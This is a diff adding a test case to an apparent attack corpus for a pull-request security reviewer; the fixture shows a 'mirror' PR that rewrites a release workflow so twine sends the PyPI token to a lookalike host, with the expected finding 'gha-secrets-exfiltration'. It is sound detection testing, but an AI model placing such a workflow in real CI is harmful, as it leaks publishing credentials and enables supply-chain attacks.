@@ -3142,6 +3142,47 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
   },
   {
+    id: 'attack-release-pypirc-token-to-mirror',
+    description:
+      'A PyPI token sent to another host by the release workflow itself: a "use the upload mirror" PR rewrites the publish step to write a .pypirc whose repository is a host spelled like PyPI and whose password is the PyPI token; twine then uploads to that host, token and all (the credential-redirect shape of GhostAction, without a curl).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7636,
+        title: 'ci: upload releases through the mirror',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pipx run build', '      - run: twine upload dist/*', '        env:', '          TWINE_USERNAME: __token__', '          TWINE_PASSWORD: ${{ secrets.PYPI_API_TOKEN }}'),
+            head: lines(
+              'name: release',
+              'on:',
+              '  release:',
+              '    types: [published]',
+              'jobs:',
+              '  publish:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - run: pipx run build',
+              '      - run: |',
+              '          cat > ~/.pypirc <<EOF',
+              '          [distutils]',
+              '          index-servers = pypi',
+              '          [pypi]',
+              '          repository = https://upload.pypi-mirror.dev/legacy/',
+              '          username = __token__',
+              '          password = ${{ secrets.PYPI_API_TOKEN }}',
+              '          EOF',
+              '          twine upload dist/*',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
